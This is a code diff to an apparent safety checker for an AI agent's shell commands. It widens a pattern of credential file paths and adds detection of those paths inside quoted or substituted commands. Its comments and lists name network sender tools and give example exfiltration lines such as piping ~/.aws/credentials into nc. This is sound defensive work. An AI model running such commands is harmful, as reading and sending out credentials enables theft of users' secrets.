@@ -75,8 +75,9 @@ _SECRETS = re.compile(
 )
 # Paths whose contents are credentials (matched against the resolved path).
 _CREDENTIAL_PATH = re.compile(
-    r"(?:^|/)(?:\.ssh(?:/|$)|\.aws/|\.gnupg/|\.kube/config|\.docker/config\.json|\.netrc$"
-    r"|\.pgpass$|\.npmrc$|\.pypirc$|\.git-credentials$|\.config/gcloud/|\.azure/"
+    r"(?:^|/)(?:\.ssh(?:/|$)|\.aws(?:/|$)|\.gnupg(?:/|$)|\.kube/config|\.docker/config\.json"
+    r"|\.netrc$|\.pgpass$|\.npmrc$|\.pypirc$|\.git-credentials$|\.config/gcloud(?:/|$)"
+    r"|\.azure(?:/|$)"
     r"|\.env(?:\.(?!example$|sample$|template$|dist$)[\w.-]+)?$|id_(?:rsa|dsa|ecdsa|ed25519)(?:\.pub)?$|[^/]*\.pem$|[^/]*\.key$"
     r"|credentials(?:\.json)?$|secrets?\.(?:ya?ml|json|toml)$)"
     r"|^/etc/(?:shadow|gshadow|sudoers)|^/etc/ssl/private/"
@@ -99,6 +100,7 @@ _SHELL_SPAWN = re.compile(
 # Raw block devices (reading one reads every file on the disk, writing one destroys it).
 _RAW_DEVICE = re.compile(r"^/dev/(?:sd[a-z]|hd[a-z]|xvd[a-z]|vd[a-z]|nvme\d|disk\d|rdisk\d"
                          r"|mmcblk\d|mapper/|md\d|loop\d)")
+_TOKEN_SPLIT = re.compile(r"[\s'\"`()<>|;&=,{}]+")
 _PLAIN_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "source", "."})
 _POWER = frozenset({"shutdown", "reboot", "poweroff", "halt"})
 _NET_SENDERS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl"})
@@ -163,6 +165,14 @@ def _check_bash(call: ToolCall, command: str, flags: set[str]) -> None:
     if _PRIVATE_KEY.search(command) or _SECRETS.search(command):
         flags.add("secret_in_content")
     _check_raw_ip(command, flags)
+    # Credential paths anywhere in the line, also inside quotes and substitutions
+    # (bash -c 'echo "$(<~/.netrc)"'): reading them is what matters, not which program does.
+    for token in _TOKEN_SPLIT.split(command):
+        if ("/" in token or token.startswith(".")) and _CREDENTIAL_PATH.search(
+            resolve_path(token, call.cwd)
+        ):
+            flags.add("credential_path_read")
+            break
     # cat ~/.aws/credentials | nc host 443 : a file piped into a network sender
     for k, seg in enumerate(segments):
         if k and seg.joiner in ("|", "|&") and seg.head in _NET_SENDERS and any(
